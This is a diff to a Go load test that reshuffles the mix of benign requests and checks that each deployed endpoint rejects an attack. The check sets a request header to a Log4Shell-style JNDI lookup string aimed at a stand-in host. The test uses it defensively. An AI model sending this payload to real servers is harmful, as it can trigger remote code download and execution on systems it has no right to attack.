@@ -246,8 +246,8 @@ func callers(t *testing.T, n *bawntest.Node) []caller {
 			}
 			return r, err
 		}, "curl", "--disable", "--parallel", "--parallel-max", "2", "--config", "-")},
-		{"Python", 20, program(lines, parse, "python3", "testdata/client.py")},
-		{"Node.js", 20, program(lines, parse, "node", "testdata/client.mjs")},
+		{"Python", 15, program(lines, parse, "python3", "testdata/client.py")},
+		{"Node.js", 25, program(lines, parse, "node", "testdata/client.mjs")},
 		{"Go", 20, func(ctx context.Context, all []request, told func(reply)) error {
 			for _, r := range all {
 				req, err := http.NewRequestWithContext(ctx, r.Method, n.Context.Public+r.Path, bytes.NewReader(r.Body))
@@ -389,15 +389,15 @@ func TestD4BenignRequests(t *testing.T) {
 	b := &benign{Rand: rand.New(rand.NewPCG(7, 11)), key: n.MustKey(bawn.RoleInvoker), prose: strings.Split(strings.ReplaceAll(string(book), "\r", ""), "\n")}
 	clients := callers(t, n)
 
-	// What is asked of whom, in turns. Each refuses an attack, or it would not count what
-	// it lets in.
-	every := []string{"hello", "webhook", "checkout", "text", "redact", "text", "hello", "webhook", "text", "redact",
-		"hello", "webhook", "text", "checkout", "redact", "export", "orders", "webhook", "payments", "checkout"}
-	for _, example := range slices.Compact(slices.Sorted(slices.Values(every))) {
+	// Of a hundred requests to each; less to those that take long to answer. Each refuses
+	// an attack, or it would not count what it lets in.
+	shares := map[string]int{"webhook": 25, "text": 25, "hello": 22, "checkout": 15, "redact": 6, "export": 4, "orders": 2, "payments": 1}
+	var every []string
+	for _, example := range slices.Sorted(maps.Keys(shares)) {
 		if !deployed[example] {
-			every = slices.DeleteFunc(every, func(e string) bool { return e == example })
 			continue
 		}
+		every = append(every, slices.Repeat([]string{example}, shares[example])...)
 		r := b.request(0, example)
 		r.Header["X-Note"] = "${jndi:ldap://x.example/a}"
 		err := clients[len(clients)-1].run(t.Context(), []request{r}, func(got reply) {
@@ -409,6 +409,7 @@ func TestD4BenignRequests(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
+	b.Shuffle(len(every), func(i, j int) { every[i], every[j] = every[j], every[i] })
 	began := time.Now()
 
 	const total = 10_000
